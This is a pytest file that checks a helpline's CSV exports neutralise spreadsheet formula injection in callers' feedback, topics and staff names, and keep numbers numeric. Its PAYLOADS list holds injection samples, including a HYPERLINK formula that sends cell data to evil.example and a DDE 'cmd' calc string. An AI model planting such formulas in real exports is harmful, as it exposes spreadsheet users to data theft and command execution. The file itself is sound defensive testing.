"""CSV exports a supervisor opens in a spreadsheet: no cell of someone else's words runs as a formula.

Callers write the feedback words, staff the topics, supervisors the names. A spreadsheet runs a
cell that starts with =, +, -, @ (and, in some, a tab or carriage return before them) as a
formula, so every text cell that starts so gets a leading apostrophe (OWASP's advice). Numbers
are written as numbers: a negative figure stays a negative number, not text.
"""
from __future__ import annotations

import ast
import csv
import io
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest

import helpline
from helpline.metrics import export
from helpline.metrics.compute import Period, compute
from helpline.metrics.queue_figures import QueueRow, queue_figures
from helpline.metrics.rows import EventRow, FeedbackRow, MetricRows, StaffRow

from tests.metrics.conftest import at, callback

HELSINKI = ZoneInfo("Europe/Helsinki")
PAYLOADS = ["=HYPERLINK(\"https://evil.example/?x=\"&A1,\"click\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
            "\t=1+1", "\r=1+1"]


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


@pytest.mark.parametrize("words", PAYLOADS)
def test_a_callers_words_that_look_like_a_formula_reach_the_spreadsheet_as_text(words):
    rows = [FeedbackRow(callback_id=7, asked_at=at("2027-01-11 10:30"), score=4, answered_at=at("2027-01-11 11:00"),
                        comment=words)]
    header, line = _cells(export.feedback_csv(rows, HELSINKI))
    assert line[header.index("words")] == "'" + words
    assert line[header.index("score")] == "4"


@pytest.mark.parametrize("topic", PAYLOADS)
def test_a_topic_that_looks_like_a_formula_is_neutralised_in_the_callbacks_csv(topic):
    row = callback("2027-01-11 08:30", ack="2027-01-11 09:30", closed="2027-01-11 10:00", outcome="resolved",
                   topic=topic)
    header, line = _cells(export.callbacks_csv([row], HELSINKI))
    assert line[header.index("topic")] == "'" + topic
    assert line[header.index("outcome")] == "resolved"


def test_names_topics_and_words_in_the_figures_csv_are_neutralised_and_numbers_stay_numbers(calendar):
    rows = MetricRows(
        callbacks=(callback("2027-01-11 08:30", ack="2027-01-11 09:30", closed="2027-01-11 10:00",
                            outcome="resolved", topic="=1+2"),),
        events=(EventRow(1, at("2027-01-11 09:00"), "assigned", 9),),
        feedback=(FeedbackRow(1, at("2027-01-11 10:30"), 5, at("2027-01-11 11:00"), comment="@me"),),
        staff=(StaffRow(9, "-Aino"),),
    )
    metrics = compute(rows, Period(at("2027-01-11 00:00"), at("2027-01-12 00:00")), calendar=calendar,
                      now=at("2027-01-12 00:00"))
    queue = queue_figures([QueueRow(at("2027-01-11 10:00"), at("2027-01-11 10:00:30"), 20, "bridged")])
    cells = _cells(export.figures_csv(metrics, queue))
    texts = {cell for line in cells for cell in line}
    assert {"'=1+2", "'@me", "'-Aino"} <= texts
    assert not {"=1+2", "@me", "-Aino"} & texts
    assert [line[5:] for line in cells if line[3] == "queue"] == [
        ["calls", "1"], ["queued", "1"], ["wait_median_seconds", "20.0"], ["wait_p90_seconds", "20.0"],
        ["hung_up_waiting", "0"], ["reached_within_60s", "1"], ["share_reached_within_60s", "1.0"]]


def test_a_negative_number_is_written_as_a_number_and_ordinary_text_is_untouched():
    out = io.StringIO()
    writer = export.csv_writer(out)
    writer.writerow((-3, -0.5, 0, "-3", "plain", "", "a=b", "'quoted"))
    assert out.getvalue() == "-3,-0.5,0,'-3,plain,,a=b,'quoted\r\n"


def test_every_csv_in_the_package_is_written_through_the_one_safe_writer():
    """A new export that calls csv.writer or csv.DictWriter itself would skip the neutralising."""
    package = Path(helpline.__file__).parent
    offenders = []
    for path in package.rglob("*.py"):
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if isinstance(node, ast.Attribute) and node.attr in ("writer", "DictWriter") and \
                    isinstance(node.value, ast.Name) and node.value.id == "csv":
                offenders.append(f"{path.relative_to(package)}:{node.lineno}")
    assert offenders == ["metrics/export.py:" + str(_safe_writer_line())], offenders


def _safe_writer_line() -> int:
    source = Path(export.__file__).read_text(encoding="utf-8").splitlines()
    return next(number for number, line in enumerate(source, start=1) if "csv.writer(" in line)
